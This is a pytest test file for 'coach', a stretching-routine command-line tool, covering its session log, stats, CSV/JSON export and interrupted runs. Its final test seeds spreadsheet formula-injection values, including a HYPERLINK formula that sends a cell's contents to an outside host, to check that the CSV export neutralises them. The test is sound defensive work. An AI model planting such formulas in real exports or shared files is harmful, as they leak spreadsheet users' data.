"""``coach log``, ``coach stats``, ``coach export``, and plain-mode runs landing in the log:
through ``coach.cli.main`` and through the real command, a routine killed mid-way
included."""

from __future__ import annotations

import csv
import io
import json
import os
import select
import shutil
import signal
import stat
import subprocess
import sys
import time
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from coach.cli import main
from coach.history import SessionRecord
from coach.log import EXPORT_FIELDS, SessionStore
from coach.session import PROGRESS_EVERY

from .test_history import make


def local(day: date, hour: int = 8) -> datetime:
    """``hour`` o'clock on ``day`` on this machine's clock, as a person here would log it."""
    return datetime(day.year, day.month, day.day, hour).astimezone()


def seed(records: list[SessionRecord]) -> None:
    with SessionStore.open() as store:
        store.add(records)


def coach_exe() -> str:
    exe = shutil.which("coach", path=str(Path(sys.executable).parent))
    assert exe, "the coach console script is installed beside the interpreter"
    return exe


def write_routine(coach_home: Path, name: str, steps: list[tuple[str, int]]) -> None:
    folder = coach_home / "config" / "routines"
    folder.mkdir(parents=True, exist_ok=True)
    text = f'name = "{name.capitalize()}"\nprepare = 0\n'
    for step, seconds in steps:
        text += f'[[step]]\nname = "{step}"\nkind = "stretch"\nduration = {seconds}\n'
    (folder / f"{name}.toml").write_text(text, encoding="utf-8")


TODAY = date.today()


# -- coach log -------------------------------------------------------------------------------


def test_log_lists_recent_sessions_newest_first(capsys: pytest.CaptureFixture[str]) -> None:
    seed(
        [
            make(local(TODAY - timedelta(days=2)), routine="desk-break", name="Desk break"),
            make(local(TODAY - timedelta(days=1)), routine="cool-down", status="stopped"),
            make(local(TODAY), routine="desk-break", name="Desk break", before=4, after=6),
        ]
    )
    assert main(["log"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3
    newest = lines[0]
    assert newest.startswith(local(TODAY).strftime("%Y-%m-%d 08:00"))
    assert "Desk break" in newest and "10:00 of 10:00" in newest and "5/5 steps" in newest
    assert "completed" in newest and "back 4 -> 6" in newest
    assert "stopped" in lines[1] and "Cool down" in lines[1]


def test_log_filters_by_day_routine_and_count(capsys: pytest.CaptureFixture[str]) -> None:
    seed([make(local(TODAY - timedelta(days=n)), routine=f"r{n % 2}") for n in range(6)])
    main(["log", "--routine", "r1"])
    assert len(capsys.readouterr().out.splitlines()) == 3
    main(["log", "--since", (TODAY - timedelta(days=1)).isoformat()])
    assert len(capsys.readouterr().out.splitlines()) == 2
    main(["log", "--limit", "4"])
    assert len(capsys.readouterr().out.splitlines()) == 4
    main(["log", "--routine", "nothing"])
    assert capsys.readouterr().out == "no sessions logged that match\n"


def test_log_answers_a_page_at_a_time_whatever_the_filter(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A long log never prints (or reads) all of it unless asked: ``--since`` and
    ``--routine`` are limited too, and the person is told how many more there are."""
    seed([make(local(TODAY - timedelta(days=n))) for n in range(25)])
    since = (TODAY - timedelta(days=30)).isoformat()
    for args in (["log"], ["log", "--since", since], ["log", "--routine", "desk-break"]):
        assert main(args) == 0
        captured = capsys.readouterr()
        assert len(captured.out.splitlines()) == 20, args
        assert captured.err == (
            "coach: the newest 20 of 25 sessions; --limit N or --all for more\n"
        )
    assert main(["log", "--since", since, "--all"]) == 0
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert len(lines) == 25 and captured.err == ""
    assert lines[0].startswith(local(TODAY).strftime("%Y-%m-%d"))
    assert main(["log", "--limit", "25"]) == 0
    assert capsys.readouterr().err == ""


def test_log_shows_the_zone_of_a_session_logged_elsewhere(
    capsys: pytest.CaptureFixture[str],
) -> None:
    tokyo = timezone(timedelta(hours=9))
    seed([make(datetime(2026, 3, 10, 8, 0, tzinfo=tokyo))])
    main(["log"])
    line = capsys.readouterr().out
    assert line.startswith("2026-03-10 08:00")
    if local(date(2026, 3, 10)).utcoffset() != timedelta(hours=9):
        assert "(UTC+09:00)" in line


def test_log_of_an_empty_log_and_a_bad_date(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["log"]) == 0
    assert capsys.readouterr().out == "no sessions logged yet\n"
    with pytest.raises(SystemExit) as stopped:
        main(["log", "--since", "yesterday"])
    assert stopped.value.code == 2
    assert "is not a date like 2026-12-01" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["log", "--limit", "9" * 20], "is more than 1000000"),
        (["stats", "--weeks", "27"], "is more than 26"),
    ],
)
def test_counts_past_their_bound_are_one_line(
    args: list[str], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """--limit 99999999999999999999 ended in a traceback (too large for SQLite); --weeks 52
    listed 26 weeks without a word."""
    seed([make(local(TODAY))])
    with pytest.raises(SystemExit) as stopped:
        main(args)
    assert stopped.value.code == 2
    [*_, line] = capsys.readouterr().err.splitlines()
    assert said in line and "Traceback" not in line


def test_stats_of_one_session_says_one_session(capsys: pytest.CaptureFixture[str]) -> None:
    seed([make(local(TODAY))])
    assert main(["stats"]) == 0
    assert "all time: 1 session, 1 completed, 10m" in capsys.readouterr().out


def test_a_damaged_log_is_one_line_on_stderr_then_it_works(
    coach_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (coach_home / "data").mkdir(parents=True)
    (coach_home / "data" / "log.sqlite3").write_bytes(b"\x00garbage" * 100)
    # Its sessions may be in the damaged file: never "no sessions", and not a success.
    assert main(["log"]) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    [line] = captured.err.splitlines()
    assert line.startswith("coach: the session log") and "moved it to log.sqlite3.corrupt-" in line
    assert line.endswith("no session in it could be read")
    assert main(["log"]) == 0  # the new log: empty, and now that is the truth
    assert capsys.readouterr() == ("no sessions logged yet\n", "")


# -- coach stats -----------------------------------------------------------------------------


def test_stats_streaks_weeks_routines_and_back_feel(capsys: pytest.CaptureFixture[str]) -> None:
    seed(
        [
            make(local(TODAY - timedelta(days=6)), minutes=10),
            make(local(TODAY - timedelta(days=5)), minutes=10),
            make(local(TODAY - timedelta(days=4)), minutes=10),
            make(local(TODAY - timedelta(days=1)), minutes=20, before=3, after=6),
            make(local(TODAY), minutes=15, routine="cool-down", before=5, after=7),
            make(local(TODAY, 20), minutes=2, routine="cool-down", status="interrupted"),
        ]
    )
    assert main(["stats"]) == 0
    out = capsys.readouterr().out
    assert "streak: 2 days (best: 3 days)" in out
    assert "all time: 6 sessions, 5 completed, 1h 7m" in out
    assert "back feel (0-10): before 4.0 (2 rated), after 6.5 (2 rated)" in out
    week = (TODAY - timedelta(days=TODAY.weekday())).isoformat()
    assert f"  {week}" in out and "this week" in out
    [desk] = [line for line in out.splitlines() if line.startswith("  desk-break")]
    assert "4 sessions" in desk and "50m" in desk
    [cool] = [line for line in out.splitlines() if line.startswith("  cool-down")]
    assert "2 sessions" in cool and "17m" in cool


def test_stats_of_an_empty_log(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["stats"]) == 0
    assert "no sessions logged yet" in capsys.readouterr().out


# -- coach export ----------------------------------------------------------------------------


def test_export_csv_parses_one_row_per_session_oldest_first(
    capsys: pytest.CaptureFixture[str],
) -> None:
    seed(
        [
            make(local(TODAY - timedelta(days=1)), before=2, after=5),
            make(local(TODAY), status="interrupted"),
        ]
    )
    with SessionStore.open() as store:
        noted = replace(
            make(local(TODAY, 21)),
            note='tight, "left" hip\nbetter after',
            skipped_steps=("Side plank", "Bird dog"),
            steps_skipped=2,
        )
        store.add([noted])
    assert main(["export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 3
    assert list(rows[0]) == list(EXPORT_FIELDS)
    assert [r["status"] for r in rows] == ["completed", "interrupted", "completed"]
    assert (rows[0]["feel_before"], rows[0]["feel_after"]) == ("2", "5")
    assert rows[1]["ended_utc"] == "" and rows[1]["feel_before"] == ""
    assert rows[2]["note"] == 'tight, "left" hip\nbetter after'
    assert rows[2]["skipped_steps"] == "Side plank; Bird dog"
    assert rows[0]["local_day"] == (TODAY - timedelta(days=1)).isoformat()


def test_export_json_to_a_private_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    seed([make(local(TODAY), before=4, after=6), make(local(TODAY, 9), status="stopped")])
    target = tmp_path / "sessions.json"
    assert main(["export", "--format", "json", "--output", str(target)]) == 0
    assert capsys.readouterr().err.strip() == f"coach: wrote 2 sessions to {target}"
    rows = json.loads(target.read_text(encoding="utf-8"))
    assert [r["status"] for r in rows] == ["completed", "stopped"]
    assert rows[0]["feel_before"] == 4 and rows[0]["skipped_steps"] == []
    assert rows[0]["active_seconds"] == 600.0
    assert datetime.fromisoformat(rows[0]["started_utc"]).utcoffset() == timedelta(0)
    assert set(rows[0]) == set(EXPORT_FIELDS)
    if os.name != "nt":
        assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_export_of_one_session_says_one_session(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed([make(local(TODAY))])
    target = tmp_path / "one.csv"
    assert main(["export", "--output", str(target)]) == 0
    assert capsys.readouterr().err.strip() == f"coach: wrote 1 session to {target}"


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_export_over_a_file_others_can_read_makes_it_private(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An old export, or a file made by hand, kept its 0644 when the sessions were written
    into it: health data that others on the machine could read."""
    seed([make(local(TODAY))])
    target = tmp_path / "old.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    assert main(["export", "--output", str(target), "--force"]) == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text(encoding="utf-8").startswith("id,routine_id,")


def test_export_to_a_folder_that_is_not_there_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--output", str(tmp_path / "no" / "such.csv")]) == 1
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("coach: cannot write") and "such.csv" in line


def test_the_installed_command_exports_json() -> None:
    seed([make(local(TODAY))])
    result = subprocess.run(
        [coach_exe(), "export", "--format", "json"], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stderr
    [row] = json.loads(result.stdout)
    assert row["status"] == "completed" and row["routine_id"] == "desk-break"


# -- plain-mode runs, for real ---------------------------------------------------------------


def run_coach(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "coach", *args],
        capture_output=True,
        text=True,
        input="",
        timeout=60,
    )


def test_a_plain_run_lands_in_the_log_as_completed(coach_home: Path) -> None:
    write_routine(coach_home, "tiny", [("Reach up", 1), ("Fold down", 1)])
    result = run_coach("run", "tiny", "--plain", "--mute", "--no-sound")
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    with SessionStore.open() as store:
        [record] = store.sessions()
    assert (record.routine_id, record.routine_name, record.status) == ("tiny", "Tiny", "completed")
    assert (record.steps_completed, record.steps_total, record.steps_skipped) == (2, 2, 0)
    assert record.active_seconds == pytest.approx(2.0)
    assert record.ended_utc is not None
    assert timedelta(seconds=1.5) < record.ended_utc - record.started_utc < timedelta(seconds=10)


def read_line(stream: io.TextIOBase, deadline: float) -> str:
    ready, _, _ = select.select([stream], [], [], max(0.0, deadline - time.monotonic()))
    if not ready:
        raise AssertionError("coach printed nothing in time")
    line = stream.readline()
    if not line:
        raise AssertionError("coach ended before its third step")
    return line


@pytest.mark.skipif(os.name == "nt", reason="SIGKILL")
def test_a_routine_killed_mid_way_is_interrupted_with_its_progress(coach_home: Path) -> None:
    write_routine(coach_home, "slow", [("One", 1), ("Two", 1), ("Three", 30)])
    process = subprocess.Popen(
        [sys.executable, "-m", "coach", "run", "slow", "--plain", "--mute", "--no-sound"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stdout is not None
        deadline = time.monotonic() + 20
        while "Three" not in read_line(process.stdout, deadline):
            pass
        # The third step has started: its batch also ends the second, and the log is
        # written right after the line is printed.
        with SessionStore.open() as store:
            while time.monotonic() < deadline:
                [record] = store.sessions()
                if record.steps_completed == 2:
                    break
                time.sleep(0.02)
            assert (record.status, record.steps_completed) == ("running", 2)
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        for stream in (process.stdin, process.stdout, process.stderr):
            if stream is not None:
                stream.close()
    assert process.returncode == -signal.SIGKILL

    with SessionStore.open() as store:
        [record] = store.sessions()
    assert (record.status, record.steps_completed, record.steps_total) == ("interrupted", 2, 3)
    assert 2.0 <= record.active_seconds <= 2.0 + PROGRESS_EVERY + 1.0
    assert record.ended_utc is None and record.updated_utc is not None

    # Everywhere: the log, the stats, the export, through the real command.
    shown = subprocess.run([coach_exe(), "log"], capture_output=True, text=True, timeout=60)
    assert "interrupted" in shown.stdout and "2/3 steps" in shown.stdout, shown.stderr
    exported = run_coach("export", "--format", "json")
    assert [row["status"] for row in json.loads(exported.stdout)] == ["interrupted"]
    assert "streak: 0 days" in run_coach("stats").stdout


def test_export_onto_the_log_itself_is_refused(
    coach_home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`coach export -o` with the log's own path (a slip of the tab key) truncated the log
    and wrote CSV into it: the next command moved it aside as damaged, every session gone."""
    seed([make(local(TODAY)), make(local(TODAY, 9))])
    log_path = coach_home / "data" / "log.sqlite3"
    before = log_path.read_bytes()
    link = coach_home / "export.csv"
    link.symlink_to(log_path)
    for target in (log_path, link, Path(str(log_path) + "-wal")):
        assert main(["export", "--output", str(target)]) == 1
        [line] = capsys.readouterr().err.splitlines()
        assert line == f"coach: cannot write {target}: it is the session log itself", line
    assert log_path.read_bytes() == before
    assert main(["log"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2


def test_export_csv_keeps_spreadsheets_from_running_text_as_formulas(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A routine file is shared and downloaded; its name goes into the log and the export.
    A name like =HYPERLINK(...) became a live formula in the spreadsheet that opened the
    CSV. Text that a spreadsheet would run starts with ' (as OWASP advises); numbers stay."""
    name = '=HYPERLINK("http://example.com/?"&A1,"Neck")'
    noted = replace(
        make(local(TODAY), routine="=cmd"),
        routine_name=name,
        note="+1 better; @SUM(1)",
        skipped_steps=("-Plank",),
        steps_skipped=1,
        utc_offset_minutes=-300,
    )
    seed([noted])
    assert main(["export"]) == 0
    [row] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert row["routine_id"] == "'=cmd"
    assert row["routine_name"] == "'" + name
    assert row["note"] == "'+1 better; @SUM(1)"
    assert row["skipped_steps"] == "'-Plank"
    assert row["utc_offset_minutes"] == "-300"
    assert main(["export", "--format", "json"]) == 0  # JSON is data, not a sheet: as is
    [item] = json.loads(capsys.readouterr().out)
    assert item["routine_name"] == name and item["utc_offset_minutes"] == -300
